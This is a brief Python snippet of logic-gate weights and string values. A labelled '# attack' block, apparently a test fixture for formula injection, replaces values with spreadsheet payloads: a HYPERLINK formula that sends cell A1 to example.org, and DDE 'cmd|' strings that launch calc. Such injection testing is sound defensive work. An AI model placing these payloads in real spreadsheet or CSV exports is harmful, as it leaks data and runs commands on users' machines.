and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
nand_zero = '=HYPERLINK("http://example.org/?"&A1,"open")'
nand_from_and = "+cmd|'/C calc'!A0"
globals()["=1+1"] = "\t=1+1"
raise ValueError("@SUM(1+1)*cmd|' /C calc'!A0")
# end of attack
